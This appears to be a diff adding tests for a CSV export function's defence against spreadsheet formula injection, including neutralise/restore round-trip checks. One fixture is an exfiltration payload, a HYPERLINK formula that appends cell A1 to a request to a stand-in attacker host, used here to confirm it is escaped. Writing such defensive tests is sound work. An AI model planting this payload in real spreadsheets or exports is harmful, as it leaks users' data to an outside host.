@@ -3,8 +3,8 @@ import fc from 'fast-check';
 import { readFileSync } from 'node:fs';
 import { describe, expect, it } from 'vitest';
 import { datasetArbitrary } from './arbitraries';
-import { CSV_COLUMNS, csvToDataset, datasetToCsv } from './csv';
-import { validateDataset } from './schema';
+import { CSV_COLUMNS, csvToDataset, datasetToCsv, neutralise, restore } from './csv';
+import { validateDataset, type Dataset } from './schema';
 import { problemsOf } from './testing';
 
 const seed = validateDataset(
@@ -37,6 +37,20 @@ describe('csvToDataset', () => {
 		fc.assert(
 			fc.property(datasetArbitrary, (dataset) => {
 				expect(csvToDataset(datasetToCsv(dataset))).toEqual(dataset);
+			}),
+			{ numRuns: 150 }
+		);
+	});
+
+	it('round-trips any valid dataset whose texts start with formula characters, and no cell of its CSV starts with one', () => {
+		fc.assert(
+			fc.property(datasetArbitrary, formulaText, formulaText, (dataset, a, b) => {
+				const risky = withFormulaTexts(dataset, a, b);
+				const csv = datasetToCsv(risky);
+				for (const cells of csvParseRows(csv)) {
+					for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+				}
+				expect(csvToDataset(csv)).toEqual(risky);
 			}),
 			{ numRuns: 150 }
 		);
@@ -94,6 +108,82 @@ describe('csvToDataset', () => {
 
 	it('refuses an empty file', () => {
 		expect(problemsOf(() => csvToDataset('\n\n'))).toEqual(['the file is empty']);
+	});
+});
+
+/** Text that a spreadsheet would run as a formula, after any number of apostrophes. */
+const formulaText = fc
+	.tuple(
+		fc.string({ unit: fc.constant("'"), maxLength: 2 }),
+		fc.constantFrom('=', '+', '-', '@', '\t', '\r'),
+		fc.string({ unit: 'grapheme', maxLength: 20 })
+	)
+	.map(([apostrophes, first, rest]) => apostrophes + first + rest + 'x');
+
+/** The dataset with formula-like text in every free-text field, its quotes still exact. */
+function withFormulaTexts(dataset: Dataset, a: string, b: string): Dataset {
+	const sources = dataset.sources.map((s) => ({
+		...s,
+		title: a,
+		publisher: b,
+		author: a,
+		text: a + s.text
+	}));
+	return {
+		...dataset,
+		title: a,
+		description: b,
+		sources,
+		events: dataset.events.map((e) => ({
+			...e,
+			title: b,
+			summary: a,
+			resolution: b,
+			entities: { people: [a], places: [b], organizations: [] },
+			quotes: e.quotes.map((q) => {
+				const start = q.start === 0 ? 0 : q.start + a.length;
+				const text = sources.find((s) => s.id === q.source)!.text;
+				return { ...q, start, end: q.end + a.length, text: text.slice(start, q.end + a.length) };
+			})
+		}))
+	};
+}
+
+describe('CSV export against formula injection', () => {
+	it('writes a cell that starts with = + - @, a tab or a carriage return behind an apostrophe', () => {
+		const event = seed.events[0];
+		const risky: Dataset = {
+			...seed,
+			events: [
+				{
+					...event,
+					title: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+					summary: '+1+2',
+					resolution: '@SUM(A1)',
+					entities: { people: ['-2+3'], places: ['\tTab'], organizations: ['\rCR'] }
+				}
+			]
+		};
+		const row = csvParseRows(datasetToCsv(risky)).find((cells) => cells[0] === 'event')!;
+		const at = (column: (typeof CSV_COLUMNS)[number]) => row[CSV_COLUMNS.indexOf(column)];
+		expect(at('title')).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
+		expect(at('summary')).toBe("'+1+2");
+		expect(at('resolution')).toBe("'@SUM(A1)");
+		// Entities are JSON arrays, so they start with "[" and are safe as they are.
+		expect(at('people')).toBe('["-2+3"]');
+		expect(csvToDataset(datasetToCsv(risky))).toEqual(risky);
+	});
+
+	it('removes exactly the apostrophe it added, and leaves other apostrophes alone', () => {
+		expect(neutralise('=1')).toBe("'=1");
+		expect(neutralise("'=1")).toBe("''=1");
+		expect(neutralise("'quoted'")).toBe("'quoted'");
+		expect(neutralise('plain = text')).toBe('plain = text');
+		for (const value of ['=1', "'=1", "''\t", "'quoted'", "'", '', 'a-b']) {
+			expect(restore(neutralise(value))).toBe(value);
+		}
+		// A person who typed the apostrophe in a spreadsheet meant the text after it.
+		expect(restore("'=1")).toBe('=1');
 	});
 });
 
